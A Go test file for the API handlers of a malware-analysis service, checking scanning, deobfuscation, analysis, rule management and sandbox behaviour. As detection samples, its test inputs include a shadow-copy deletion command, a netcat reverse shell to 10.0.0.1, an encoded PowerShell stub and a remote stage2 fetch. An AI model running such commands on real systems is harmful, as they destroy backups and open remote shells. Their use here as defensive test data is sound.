package handlers

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"github.com/gin-gonic/gin"
	"github.com/sirupsen/logrus"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/radicalkjax/Athena-sub009/internal/analysis"
	"github.com/radicalkjax/Athena-sub009/internal/deobfuscator"
	"github.com/radicalkjax/Athena-sub009/internal/matcher"
	"github.com/radicalkjax/Athena-sub009/internal/middleware"
	"github.com/radicalkjax/Athena-sub009/internal/sandbox"
	"github.com/radicalkjax/Athena-sub009/internal/worker"
)

// setupTestRouter 设置测试路由
func setupTestRouter() *gin.Engine {
	gin.SetMode(gin.TestMode)
	return gin.New()
}

func newTestEngine(t *testing.T) *analysis.Engine {
	t.Helper()
	logger := logrus.New()
	logger.SetLevel(logrus.PanicLevel)
	return analysis.NewEngine(
		deobfuscator.New(logger),
		matcher.NewMatcher(logger),
		sandbox.NewManager(sandbox.ModeEnforce, logger),
		logger,
	)
}

func newTestMetrics(t *testing.T) *middleware.PrometheusMetrics {
	t.Helper()
	logger := logrus.New()
	logger.SetLevel(logrus.PanicLevel)
	// 独立命名空间避免重复注册
	ns := fmt.Sprintf("handler_test_%d", time.Now().UnixNano())
	return middleware.NewPrometheusMetrics(logger, ns)
}

func postJSON(router *gin.Engine, path string, body interface{}) *httptest.ResponseRecorder {
	data, _ := json.Marshal(body)
	req := httptest.NewRequest("POST", path, bytes.NewReader(data))
	req.Header.Set("Content-Type", "application/json")
	w := httptest.NewRecorder()
	router.ServeHTTP(w, req)
	return w
}

// TestAnalysisHandler_Scan 测试规则扫描接口
func TestAnalysisHandler_Scan(t *testing.T) {
	logger := logrus.New()
	logger.SetLevel(logrus.PanicLevel)
	engine := newTestEngine(t)
	handler := NewAnalysisHandler(engine, nil, newTestMetrics(t), logger)

	router := setupTestRouter()
	router.POST("/api/v1/scan", handler.Scan)

	w := postJSON(router, "/api/v1/scan", ScanRequest{
		Content: "cmd.exe /c vssadmin delete shadows /all /quiet",
	})

	assert.Equal(t, http.StatusOK, w.Code)

	var result matcher.ScanResult
	require.NoError(t, json.Unmarshal(w.Body.Bytes(), &result))
	require.NotEmpty(t, result.Matches)

	found := false
	for _, m := range result.Matches {
		if m.RuleID == "shadow_copy_delete" {
			found = true
			assert.Equal(t, matcher.SeverityCritical, m.Severity)
		}
	}
	assert.True(t, found, "shadow_copy_delete 规则应命中")
	assert.Greater(t, result.ThreatScore, 0)
}

// TestAnalysisHandler_Scan_AdhocPattern 测试临时正则搜索
func TestAnalysisHandler_Scan_AdhocPattern(t *testing.T) {
	logger := logrus.New()
	logger.SetLevel(logrus.PanicLevel)
	engine := newTestEngine(t)
	handler := NewAnalysisHandler(engine, nil, newTestMetrics(t), logger)

	router := setupTestRouter()
	router.POST("/api/v1/scan", handler.Scan)

	w := postJSON(router, "/api/v1/scan", ScanRequest{
		Content: "GET /payload.bin HTTP/1.1",
		Pattern: `payload\.\w+`,
	})

	assert.Equal(t, http.StatusOK, w.Code)

	var resp struct {
		Matches    []matcher.PatternMatch `json:"matches"`
		MatchCount int                    `json:"match_count"`
	}
	require.NoError(t, json.Unmarshal(w.Body.Bytes(), &resp))
	assert.Equal(t, 1, resp.MatchCount)
}

// TestAnalysisHandler_Scan_InvalidPattern 测试非法正则返回 400
func TestAnalysisHandler_Scan_InvalidPattern(t *testing.T) {
	logger := logrus.New()
	logger.SetLevel(logrus.PanicLevel)
	engine := newTestEngine(t)
	handler := NewAnalysisHandler(engine, nil, newTestMetrics(t), logger)

	router := setupTestRouter()
	router.POST("/api/v1/scan", handler.Scan)

	w := postJSON(router, "/api/v1/scan", ScanRequest{
		Content: "anything",
		Pattern: "([unclosed",
	})

	assert.Equal(t, http.StatusBadRequest, w.Code)
}

// TestAnalysisHandler_Scan_EmptyContent 测试空内容返回 400
func TestAnalysisHandler_Scan_EmptyContent(t *testing.T) {
	logger := logrus.New()
	logger.SetLevel(logrus.PanicLevel)
	engine := newTestEngine(t)
	handler := NewAnalysisHandler(engine, nil, newTestMetrics(t), logger)

	router := setupTestRouter()
	router.POST("/api/v1/scan", handler.Scan)

	w := postJSON(router, "/api/v1/scan", ScanRequest{})
	assert.Equal(t, http.StatusBadRequest, w.Code)
}

// TestAnalysisHandler_Deobfuscate 测试解混淆接口
func TestAnalysisHandler_Deobfuscate(t *testing.T) {
	logger := logrus.New()
	logger.SetLevel(logrus.PanicLevel)
	engine := newTestEngine(t)
	handler := NewAnalysisHandler(engine, nil, newTestMetrics(t), logger)

	router := setupTestRouter()
	router.POST("/api/v1/deobfuscate", handler.Deobfuscate)

	plain := "hello world this is plain text payload"
	encoded := base64.StdEncoding.EncodeToString([]byte(plain))

	w := postJSON(router, "/api/v1/deobfuscate", DeobfuscateRequest{Content: encoded})
	assert.Equal(t, http.StatusOK, w.Code)

	var resp struct {
		Result deobfuscator.Result `json:"result"`
	}
	require.NoError(t, json.Unmarshal(w.Body.Bytes(), &resp))
	assert.True(t, resp.Result.Success)
	assert.Equal(t, plain, resp.Result.Deobfuscated)
	assert.NotEmpty(t, resp.Result.Layers)
}

// TestAnalysisHandler_Analyze 测试完整分析接口
func TestAnalysisHandler_Analyze(t *testing.T) {
	logger := logrus.New()
	logger.SetLevel(logrus.PanicLevel)
	engine := newTestEngine(t)

	pool := worker.NewPool(2, 16, engine, logger)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	pool.Start(ctx)
	defer pool.Stop()

	handler := NewAnalysisHandler(engine, pool, newTestMetrics(t), logger)
	router := setupTestRouter()
	router.POST("/api/v1/analyze", handler.Analyze)

	w := postJSON(router, "/api/v1/analyze", AnalyzeRequest{
		Content: "powershell -EncodedCommand SQBFAFgA",
	})

	assert.Equal(t, http.StatusOK, w.Code)

	var report analysis.Report
	require.NoError(t, json.Unmarshal(w.Body.Bytes(), &report))
	assert.NotEmpty(t, report.ID)
	assert.NotEmpty(t, report.Metadata.SHA256)
	assert.NotEmpty(t, report.Findings)
	assert.Greater(t, report.ThreatScore, 0)
}

// TestAnalysisHandler_Analyze_EmptyContent 测试空内容返回 400
func TestAnalysisHandler_Analyze_EmptyContent(t *testing.T) {
	logger := logrus.New()
	logger.SetLevel(logrus.PanicLevel)
	engine := newTestEngine(t)

	pool := worker.NewPool(1, 4, engine, logger)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	pool.Start(ctx)
	defer pool.Stop()

	handler := NewAnalysisHandler(engine, pool, newTestMetrics(t), logger)
	router := setupTestRouter()
	router.POST("/api/v1/analyze", handler.Analyze)

	w := postJSON(router, "/api/v1/analyze", AnalyzeRequest{})
	assert.Equal(t, http.StatusBadRequest, w.Code)
}

// TestAnalysisHandler_AnalyzeBatch 测试批量分析
func TestAnalysisHandler_AnalyzeBatch(t *testing.T) {
	logger := logrus.New()
	logger.SetLevel(logrus.PanicLevel)
	engine := newTestEngine(t)
	handler := NewAnalysisHandler(engine, nil, newTestMetrics(t), logger)

	router := setupTestRouter()
	router.POST("/api/v1/analyze/batch", handler.AnalyzeBatch)

	body := map[string]interface{}{
		"items": []map[string]string{
			{"id": "a", "content": "plain harmless text"},
			{"id": "b", "content": "nc -e /bin/sh 10.0.0.1 4444"},
		},
	}
	w := postJSON(router, "/api/v1/analyze/batch", body)
	assert.Equal(t, http.StatusOK, w.Code)

	var resp struct {
		Total   int                    `json:"total"`
		Results []analysis.BatchResult `json:"results"`
	}
	require.NoError(t, json.Unmarshal(w.Body.Bytes(), &resp))
	assert.Equal(t, 2, resp.Total)
	require.Len(t, resp.Results, 2)
	assert.Equal(t, "a", resp.Results[0].ID)
	assert.Equal(t, "b", resp.Results[1].ID)
	require.NotNil(t, resp.Results[1].Report)
	assert.NotEmpty(t, resp.Results[1].Report.Findings)
}

// TestRuleHandler_CreateListDelete 测试规则增删查
func TestRuleHandler_CreateListDelete(t *testing.T) {
	logger := logrus.New()
	logger.SetLevel(logrus.PanicLevel)
	engine := newTestEngine(t)
	handler := NewRuleHandler(engine.Matcher(), newTestMetrics(t), logger)

	router := setupTestRouter()
	router.GET("/api/v1/rules", handler.ListRules)
	router.POST("/api/v1/rules", handler.CreateRule)
	router.DELETE("/api/v1/rules/:id", handler.DeleteRule)

	baseline := engine.Matcher().RuleCount()

	// 注册自定义规则
	w := postJSON(router, "/api/v1/rules", matcher.RuleSpec{
		ID:       "custom_marker",
		Name:     "Custom marker",
		Category: matcher.CategoryCustom,
		Severity: matcher.SeverityMedium,
		Kind:     matcher.MatchLiteral,
		Pattern:  "XYZZY",
		Weight:   0.5,
	})
	assert.Equal(t, http.StatusCreated, w.Code)

	// 重复 ID 冲突
	w = postJSON(router, "/api/v1/rules", matcher.RuleSpec{
		ID:       "custom_marker",
		Name:     "Duplicate",
		Category: matcher.CategoryCustom,
		Severity: matcher.SeverityLow,
		Kind:     matcher.MatchLiteral,
		Pattern:  "AAAA",
		Weight:   0.5,
	})
	assert.Equal(t, http.StatusConflict, w.Code)

	// 列表包含新规则
	req := httptest.NewRequest("GET", "/api/v1/rules", nil)
	rec := httptest.NewRecorder()
	router.ServeHTTP(rec, req)
	assert.Equal(t, http.StatusOK, rec.Code)

	var listResp struct {
		Total int `json:"total"`
	}
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &listResp))
	assert.Equal(t, baseline+1, listResp.Total)

	// 删除
	req = httptest.NewRequest("DELETE", "/api/v1/rules/custom_marker", nil)
	rec = httptest.NewRecorder()
	router.ServeHTTP(rec, req)
	assert.Equal(t, http.StatusOK, rec.Code)
	assert.Equal(t, baseline, engine.Matcher().RuleCount())

	// 再删返回 404
	req = httptest.NewRequest("DELETE", "/api/v1/rules/custom_marker", nil)
	rec = httptest.NewRecorder()
	router.ServeHTTP(rec, req)
	assert.Equal(t, http.StatusNotFound, rec.Code)
}

// TestSandboxHandler_Lifecycle 测试沙箱环境生命周期接口
func TestSandboxHandler_Lifecycle(t *testing.T) {
	logger := logrus.New()
	logger.SetLevel(logrus.PanicLevel)
	engine := newTestEngine(t)
	handler := NewSandboxHandler(engine.Sandbox(), newTestMetrics(t), logger)

	router := setupTestRouter()
	router.POST("/api/v1/sandboxes", handler.CreateEnvironment)
	router.GET("/api/v1/sandboxes/:id", handler.GetEnvironment)
	router.POST("/api/v1/sandboxes/:id/execute", handler.Execute)
	router.DELETE("/api/v1/sandboxes/:id", handler.TerminateEnvironment)

	// 创建（空体，默认策略）
	req := httptest.NewRequest("POST", "/api/v1/sandboxes", nil)
	rec := httptest.NewRecorder()
	router.ServeHTTP(rec, req)
	require.Equal(t, http.StatusCreated, rec.Code)

	var created struct {
		ID string `json:"id"`
	}
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &created))
	require.NotEmpty(t, created.ID)

	// 默认策略拒绝网络，enforce 模式下执行失败
	w := postJSON(router, "/api/v1/sandboxes/"+created.ID+"/execute", ExecuteRequest{
		Code: "fetch('http://198.51.100.7/stage2')",
	})
	assert.Equal(t, http.StatusOK, w.Code)

	var result sandbox.ExecutionResult
	require.NoError(t, json.Unmarshal(w.Body.Bytes(), &result))
	assert.False(t, result.Success)
	assert.NotEmpty(t, result.Events)

	// 状态查询
	req = httptest.NewRequest("GET", "/api/v1/sandboxes/"+created.ID, nil)
	rec = httptest.NewRecorder()
	router.ServeHTTP(rec, req)
	assert.Equal(t, http.StatusOK, rec.Code)

	// 终止
	req = httptest.NewRequest("DELETE", "/api/v1/sandboxes/"+created.ID, nil)
	rec = httptest.NewRecorder()
	router.ServeHTTP(rec, req)
	assert.Equal(t, http.StatusOK, rec.Code)

	// 未知 ID 返回 404
	req = httptest.NewRequest("GET", "/api/v1/sandboxes/no-such-env", nil)
	rec = httptest.NewRecorder()
	router.ServeHTTP(rec, req)
	assert.Equal(t, http.StatusNotFound, rec.Code)
}
